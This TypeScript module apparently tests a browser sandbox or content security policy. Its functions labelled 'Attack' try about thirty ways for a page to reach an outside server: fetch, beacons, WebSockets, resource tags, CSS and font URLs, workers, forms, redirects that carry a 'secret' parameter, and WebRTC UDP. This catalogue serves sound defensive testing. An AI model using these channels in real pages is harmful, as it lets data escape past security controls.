// Attempts to reach a server, each under a path of its own, so that the server's log tells which one got through.
import { attemptAll, type Attack } from './attack.ts';

function element(tag: string, attributes: Readonly<Record<string, string>>): string {
  const added = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) added.setAttribute(name, value);
  document.head.append(added);
  return 'added';
}

/** Every way out that a page has, to the server at `to` and to this page's own origin. */
export const requests: Attack = (args) => {
  const to = args.get('to') ?? '';
  return attemptAll({
    fetch: async () => (await fetch(`${to}/fetch`)).status,
    noCors: async () => (await fetch(`${to}/no-cors`, { mode: 'no-cors' })).type,
    keepalive: async () => (await fetch(`${to}/keepalive`, { method: 'POST', keepalive: true })).status,
    ownOrigin: async () => (await fetch('style.css')).status,
    xhr: () =>
      new Promise((resolve, reject) => {
        const xhr = new XMLHttpRequest();
        xhr.onload = () => {
          resolve(xhr.status);
        };
        xhr.onerror = () => {
          reject(new Error('stopped'));
        };
        xhr.open('GET', `${to}/xhr`);
        xhr.send();
      }),
    beacon: () => navigator.sendBeacon(`${to}/beacon`),
    webSocket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(`${to.replace('http', 'ws')}/websocket`);
        socket.onopen = resolve;
        socket.onerror = () => {
          reject(new Error('stopped'));
        };
      }),
    eventSource: () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(`${to}/event-source`);
        source.onopen = resolve;
        source.onerror = () => {
          reject(new Error('stopped'));
        };
      }),
    image: () => element('img', { src: `${to}/image` }),
    script: () => element('script', { src: `${to}/script` }),
    module: () => import(`${to}/module.js`) as Promise<unknown>,
    style: () => element('link', { rel: 'stylesheet', href: `${to}/style` }),
    prefetch: () => element('link', { rel: 'prefetch', href: `${to}/prefetch` }),
    preload: () => element('link', { rel: 'preload', as: 'image', href: `${to}/preload` }),
    prerender: () => element('link', { rel: 'prerender', href: `${to}/prerender` }),
    icon: () => element('link', { rel: 'icon', href: `${to}/icon` }),
    manifest: () => element('link', { rel: 'manifest', href: `${to}/manifest` }),
    video: () => element('video', { src: `${to}/video` }),
    frame: () => element('iframe', { src: `${to}/frame` }),
    object: () => element('object', { data: `${to}/object` }),
    embed: () => element('embed', { src: `${to}/embed` }),
    css: () => {
      document.documentElement.style.backgroundImage = `url(${to}/css)`;
      return painted();
    },
    font: () => {
      const face = new FontFace('evil', `url(${to}/font)`);
      return face.load();
    },
    ping: () => {
      const link = document.createElement('a');
      link.href = '#';
      link.ping = `${to}/ping`;
      document.body.append(link);
      link.click();
      return 'clicked';
    },
    // Until it has asked: the form below ends it with the page.
    worker: () =>
      new Promise((resolve, reject) => {
        const code = `fetch('${to}/worker').finally(() => { postMessage('asked'); })`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = resolve;
        worker.onerror = () => {
          reject(new Error('stopped'));
        };
      }),
    inline: () => {
      const script = document.createElement('script');
      script.textContent = `window.inlineRan = true`;
      document.head.append(script);
      if (!('inlineRan' in window)) throw new Error('stopped');
      return 'ran';
    },
    eval: () => (0, eval)('1') as unknown,
    // Last, since it takes the page away where nothing stops it.
    form: () => {
      const form = Object.assign(document.createElement('form'), { action: `${to}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
      return 'submitted';
    },
  });
};

/** Until what was asked for has been styled and drawn: only then does the browser load a background. */
function painted(): Promise<string> {
  return new Promise((resolve) => {
    requestAnimationFrame(() => {
      requestAnimationFrame(() => {
        resolve('painted');
      });
    });
  });
}

/** Goes to the server itself, with what it knows in the URL. */
export const leave: Attack = (args) => {
  location.href = `${args.get('to') ?? ''}/leave?secret=1`;
  return 'leaving';
};

/** Goes there by a refresh in the markup. */
export const refresh: Attack = (args) =>
  element('meta', { 'http-equiv': 'refresh', content: `0;url=${args.get('to') ?? ''}/refresh` });

/** Sends UDP by way of WebRTC. */
export const webrtc: Attack = async (args) => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${args.get('udp') ?? ''}` }] });
  peer.createDataChannel('evil');
  await peer.setLocalDescription(await peer.createOffer());
  return 'gathering';
};
